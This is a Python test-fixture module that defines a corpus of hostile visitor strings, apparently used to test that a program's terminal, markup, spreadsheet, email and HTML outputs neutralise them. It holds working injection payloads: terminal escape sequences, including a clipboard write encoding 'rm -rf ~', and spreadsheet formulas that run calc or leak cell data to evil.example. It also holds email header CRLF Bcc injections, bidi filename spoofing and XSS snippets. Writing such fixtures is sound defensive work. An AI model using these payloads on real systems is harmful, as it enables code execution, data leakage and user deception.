"""Hostile visitor text: one named corpus for every place text lands.

Each payload is `(name, text)` so parametrised tests read like
`test_csv_cells[osc52_clipboard]`. The groups say what a payload is aimed
at; every test still sends the whole corpus, since a payload aimed at one
sink must be harmless in all the others too. All payloads are accepted by
the API as typed (no NUL, no lone surrogate, under 200 characters so they
also fit a profile name); CR/LF are refused only in a profile name.
"""

from __future__ import annotations

import base64

Payload = tuple[str, str]

TERMINAL: list[Payload] = [
    ("osc0_title", "\x1b]0;PWNED-TITLE\x07 hello"),
    ("osc2_title_st", "\x1b]2;PWNED-TITLE2\x1b\\ hello"),
    ("osc52_clipboard", "\x1b]52;c;cm0gLXJmIH4K\x07 copy"),
    ("osc8_hyperlink", "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\"),
    ("csi_clear_screen", "\x1b[2J\x1b[3J\x1b[H cleared"),
    ("csi_cursor_move", "\x1b[10;10H\x1b[1A\x1b[2K moved"),
    ("csi_dsr_report", "\x1b[6n report cursor"),
    ("csi_da_report", "\x1b[c\x1b[>c\x1b[=c device attributes"),
    ("csi_sgr_conceal", "\x1b[8mhidden\x1b[0m \x1b[5;31mblink"),
    ("csi_private_modes", "\x1b[?1049l\x1b[?1000h\x1b[?25l modes"),
    ("esc_full_reset", "\x1bc reset"),
    ("dcs_decrqss", "\x1bP$qm\x1b\\ dcs"),
    ("c1_csi_8bit", "\x9b2J\x9b31m c1 csi"),
    ("c1_osc_8bit", "\x9d0;PWNED-C1\x9c c1 osc"),
    ("c1_dcs_nel", "\x90$qm\x9c\x85 c1 dcs"),
    ("osc_unterminated", "\x1b]0;never terminated title"),
    ("cr_overwrite", "refund approved\rDENIED"),
    ("backspaces", "approved\x08\x08\x08\x08\x08\x08\x08\x08denied!!"),
    ("bell_flood", "\x07\x07\x07\x07\x07 ding"),
    ("vt_ff_del", "vertical\x0btab\x0cfeed\x7fdel"),
    ("bidi_rlo", "invoice_\u202egpj.exe"),
    ("bidi_isolates", "\u2066admin\u2069 \u2067x\u2069 \u2068y\u2069 \u202dlro\u202c"),
    ("zero_width", "pay\u200bpal \u200c\u200d\u2060\ufeff\u00ad end"),
    ("combining_flood", "Z" + "\u0301\u0302\u0303\u0304\u0305" * 30 + "algo"),
    ("multi_line", "line one\nline two\n\x1b[1A overwrite above"),
]

MARKUP: list[Payload] = [
    ("markup_close", "[/]"),
    ("markup_click_quit", "[@click=app.quit]x[/]"),
    ("markup_link", "[link=https://evil.example]x[/link]"),
    ("markup_bold_red", "[bold red]RED[/bold red]"),
    ("markup_escaped", "\\[b]not bold\\[/b] [i]"),
    ("markup_textual_var", "[$accent on $error]styled[/]"),
]

FORMULA: list[Payload] = [
    ("formula_hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    ("formula_cmd_plus", "+cmd|' /C calc'!A0"),
    ("formula_minus", "-2+3"),
    ("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula_tab_equals", "\t=1+1"),
    ("formula_cr_equals", "\r=1+1"),
    ("formula_dde", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'),
]

MAIL: list[Payload] = [
    ("mail_crlf_bcc", "Eve\r\nBcc: victim@evil.example"),
    ("mail_lf_to", "Eve\nTo: other@evil.example"),
    ("mail_email_crlf", "eve@example.com\r\nBcc: x@evil.example"),
    ("mail_encoded_word_q", "=?utf-8?q?x=0d=0aBcc:_a@evil.example?="),
    (
        "mail_encoded_word_b",
        "=?utf-8?b?" + base64.b64encode(b"x\r\nBcc: b@evil.example").decode() + "?=",
    ),
    ("mail_line_separator", "Eve\u2028Bcc: c@evil.example\u2029"),
    ("mail_nel", "Eve\x85Bcc: d@evil.example"),
    ("mail_display_name", '"Boss" <boss@example.com>, evil@evil.example'),
]

HTML: list[Payload] = [
    ("html_img_onerror", '<img src=x onerror="window.__pwned=1;alert(1)">'),
    ("html_script", "<script>window.__pwned=2;alert(2)</script>"),
    ("html_svg_onload", '<svg onload="window.__pwned=3"><circle r=9></svg>'),
    ("html_javascript_url", '<a href="javascript:window.__pwned=4">click</a> javascript:alert(4)'),
    ("html_textarea_breakout", "</textarea><script>window.__pwned=5</script>"),
    ("html_iframe_srcdoc", '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>'),
    ("html_attr_breakout", '"><img src=x onerror=window.__pwned=7>'),
]

CORPUS: list[Payload] = TERMINAL + MARKUP + FORMULA + MAIL + HTML

assert len(CORPUS) >= 30
assert len({n for n, _ in CORPUS}) == len(CORPUS), "payload names must be unique"
assert len({t for _, t in CORPUS}) == len(CORPUS), "payload texts must be unique"
assert all(len(t) <= 200 and "\x00" not in t for _, t in CORPUS)
